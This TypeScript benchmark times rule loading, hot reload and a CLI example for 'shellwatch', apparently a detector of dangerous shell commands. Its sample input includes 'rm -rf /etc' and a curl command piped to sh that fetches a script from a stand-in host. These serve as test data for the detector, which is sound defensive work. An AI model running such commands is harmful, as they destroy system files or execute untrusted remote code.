/**
 * Rule loading (issue 25): how long the service takes to validate, check every regex
 * and compile the `rules/` pack and the bench's 1,000-rule set, how long a hot reload
 * that changes one rule takes after that, and the wall time of the README's
 * three-line `shellwatch eval` example. Each load runs in a fresh process (the verdict
 * cache is per process, so a fresh one pays what a start pays), once as the service
 * loads (static proof, then recheck for the rest) and once with recheck alone, the
 * baseline of the same run.
 *
 * `node dist/bench/load.bench.js [--quick]` prints the rows as JSON; run.ts calls
 * {@link benchLoads}. `--child SET MODE` is one measurement (internal).
 */
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import type { SourceFile } from '../src/core/rules';
import { ruleSetRegexes } from '../src/core/rules';
import { staticRegexVerdict } from '../src/core/rules/operators/check-regex';
import { ANALYSIS_CONCURRENCY, loadCheckedRuleSet } from '../src/regex-check/load-checked-rule-set';
import { RegexChecker } from '../src/regex-check/regex-checker';
import { readRuleFolder } from '../src/rules-store/rule-files';
import { REPO_ROOT, ruleFilesFor } from './corpus';

export type LoadSet = 'pack' | '1000';
export type LoadMode = 'static' | 'recheck-only';

/** One fresh process's measurement of a rule set. */
export interface LoadRow {
  set: LoadSet;
  mode: LoadMode;
  rules: number;
  regexes: number;
  /** Regexes answered without recheck (the static proof or a quick refusal). */
  staticRegexes: number;
  loadMs: number;
  /** The same set reloaded with one rule changed (a new regex recheck must analyse). */
  reloadMs: number;
}

export interface LoadResult {
  rows: LoadRow[];
  /** Median wall time of the README's `shellwatch eval` example, and of `node -e 0`. */
  cliEvalMs: number;
  nodeStartMs: number;
}

async function files(set: LoadSet): Promise<{ rules: SourceFile[]; lists: SourceFile[] }> {
  if (set === 'pack') {
    const folder = await readRuleFolder(join(REPO_ROOT, 'rules'));
    return { rules: folder.rules, lists: folder.lists };
  }
  const { rules, lists } = ruleFilesFor(1000);
  return { rules, lists };
}

/**
 * The set with one rule changed as an author would change it: one of its regexes
 * edited into a pattern new to the verdict cache, and one the static proof cannot
 * decide, so that recheck has to analyse it (the worst case of a one-rule reload).
 */
function withOneRuleChanged(
  rules: readonly SourceFile[],
  lists: readonly SourceFile[],
): SourceFile[] {
  for (const [index, file] of rules.entries()) {
    for (const spec of ruleSetRegexes([file], lists)) {
      if (staticRegexVerdict(spec.source, spec.flags) !== undefined) continue;
      const quoted = JSON.stringify(spec.source);
      if (!file.text.includes(quoted)) continue;
      const text = file.text.replace(quoted, JSON.stringify(`${spec.source}(?:zq)?`));
      return rules.map((f, i) => (i === index ? { ...f, text } : f));
    }
  }
  throw new Error('no rule with a regex only recheck can decide');
}

async function measure(set: LoadSet, mode: LoadMode): Promise<LoadRow> {
  const source = await files(set);
  const checker = new RegexChecker({
    concurrency: ANALYSIS_CONCURRENCY,
    staticProof: mode === 'static',
  });
  try {
    const regexes = ruleSetRegexes(source.rules, source.lists);
    const staticRegexes = regexes.filter(
      (r) => staticRegexVerdict(r.source, r.flags, mode === 'static') !== undefined,
    ).length;
    let started = performance.now();
    const loaded = await loadCheckedRuleSet(checker, source.rules, source.lists);
    const loadMs = performance.now() - started;
    if (!loaded.ok) throw new Error(JSON.stringify(loaded.errors.slice(0, 3)));
    const changed = withOneRuleChanged(source.rules, source.lists);
    started = performance.now();
    const reloaded = await loadCheckedRuleSet(checker, changed, source.lists);
    const reloadMs = performance.now() - started;
    if (!reloaded.ok) throw new Error(JSON.stringify(reloaded.errors.slice(0, 3)));
    return {
      set,
      mode,
      rules: loaded.rules.length,
      regexes: regexes.length,
      staticRegexes,
      loadMs: Math.round(loadMs),
      reloadMs: Math.round(reloadMs),
    };
  } finally {
    checker.close();
  }
}

function run(
  args: readonly string[],
  input?: string,
): Promise<{ ms: number; stdout: string; code: number | null }> {
  return new Promise((done, fail) => {
    const started = performance.now();
    const child = spawn(process.execPath, args, {
      cwd: REPO_ROOT,
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    let stdout = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.on('error', fail);
    child.on('exit', (code) => done({ ms: performance.now() - started, stdout, code }));
    child.stdin.end(input ?? '');
  });
}

const median = (values: number[]): number => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.floor(sorted.length / 2)]!;
};

/** README's example: three lines through `shellwatch eval --format lines`. */
const EXAMPLE = 'ls -la\nrm -rf /etc\ncurl -s http://x.example/a.sh | sh\n';

/** Runs the load section; `log` prints progress. */
export async function benchLoads(options: {
  quick: boolean;
  log: (line: string) => void;
}): Promise<LoadResult> {
  const rows: LoadRow[] = [];
  const plan: [LoadSet, LoadMode][] = [
    ['pack', 'static'],
    ['pack', 'recheck-only'],
    ['1000', 'static'],
  ];
  // The recheck-only 1,000-rule load is the slow one (~20 s on this machine).
  if (!options.quick) plan.push(['1000', 'recheck-only']);
  for (const [set, mode] of plan) {
    options.log(`loads: ${set} rules, ${mode}, in a fresh process…`);
    const child = await run([__filename, '--child', set, mode]);
    if (child.code !== 0) throw new Error(`load bench child ${set} ${mode} failed`);
    const row = JSON.parse(child.stdout) as LoadRow;
    options.log(`loads: ${JSON.stringify(row)}`);
    rows.push(row);
  }
  const cli: number[] = [];
  const bare: number[] = [];
  for (let round = 0; round < 3; round++) {
    const result = await run(
      [join(REPO_ROOT, 'bin/shellwatch.js'), 'eval', '--rules', 'rules', '--format', 'lines'],
      EXAMPLE,
    );
    if (result.code !== 0 || result.stdout.split('\n').filter(Boolean).length !== 2)
      throw new Error(`the eval example did not give its 2 alerts (exit ${result.code})`);
    cli.push(result.ms);
    bare.push((await run(['-e', '0'])).ms);
  }
  options.log(`loads: CLI eval example ${cli.map(Math.round).join(', ')} ms`);
  return { rows, cliEvalMs: Math.round(median(cli)), nodeStartMs: Math.round(median(bare)) };
}

if (require.main === module) {
  const [, , flag, set, mode] = process.argv;
  if (flag === '--child') {
    measure(set as LoadSet, mode as LoadMode).then(
      (row) => {
        process.stdout.write(`${JSON.stringify(row)}\n`);
        process.exit(0);
      },
      (error: unknown) => {
        console.error(error);
        process.exit(1);
      },
    );
  } else {
    benchLoads({
      quick: process.argv.includes('--quick'),
      log: (line) => console.error(line),
    }).then(
      (result) => {
        process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
        process.exit(0);
      },
      (error: unknown) => {
        console.error(error);
        process.exit(1);
      },
    );
  }
}
